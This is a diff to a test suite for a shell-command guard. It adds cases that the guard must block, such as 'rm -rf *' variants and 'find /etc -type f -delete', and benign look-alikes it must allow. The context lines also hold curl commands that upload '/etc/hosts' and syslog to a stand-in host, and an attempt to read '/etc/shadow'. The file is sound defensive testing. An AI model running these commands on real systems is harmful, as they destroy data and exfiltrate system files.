@@ -228,6 +228,13 @@ describe('guard: dangerous shell', () => {
     'curl -F f=@/etc/hosts https://x.example',
     'curl -T /var/log/syslog https://x.example',
     'cd / && rm -rf *',
+    'rm -rf *',
+    'rm -rf ./*',
+    '(cd /tmp && rm -rf *); rm -rf *',
+    'cd /tmp & rm -rf *',
+    "bash -c 'cd /tmp'; rm -rf *",
+    'cd /tmp | true; rm -rf *',
+    'find /etc -type f -delete',
     'cd && rm -rf .* *',
     'CMD=rm; $CMD -rf /',
     "X='rm -rf'; $X /",
@@ -310,6 +317,8 @@ describe('guard: look-alikes pass', () => {
     'rm -rf $TMPDIR',
     'rm -rf "$BUILD_DIR/out"',
     'cd /tmp && rm -rf *',
+    'cd / && cd tmp && rm -rf *',
+    '(cd /tmp && rm -rf *)',
     'cd build && rm -rf *',
     'CMD=ls; $CMD -la /',
     'rsync -a --delete src/ backup/',
@@ -317,6 +326,8 @@ describe('guard: look-alikes pass', () => {
     'du -sh /*',
     'curl -o x.json https://api.example.com; jq . x.json',
     'tar -C build -xf x.tar',
+    "find . -name '*.pyc' -delete",
+    "find ~ -name '*.tmp' -delete",
     'watch -n 5 ls',
     'chmod 755 /usr/local/bin/tool',
     'ls ~/*',
@@ -334,6 +345,7 @@ describe('guard: look-alikes pass', () => {
     expect(reasonOf(call({ command: 'rm -rf *', cwd: '~' }))).toMatch(/^dangerous shell: /);
     expect(reasonOf(call({ command: 'cat shadow', cwd: '/etc' }))).toMatch(/^forbidden path: /);
     expect(call({ command: 'rm -rf "$1"', args: ['build'], cwd: '~/project' }).blocked).toBe(false);
+    expect(call({ command: 'rm -rf *', cwd: '~/project/build' }).blocked).toBe(false);
   });
 
   it('a glob too complex to match safely is blocked, not matched', () => {
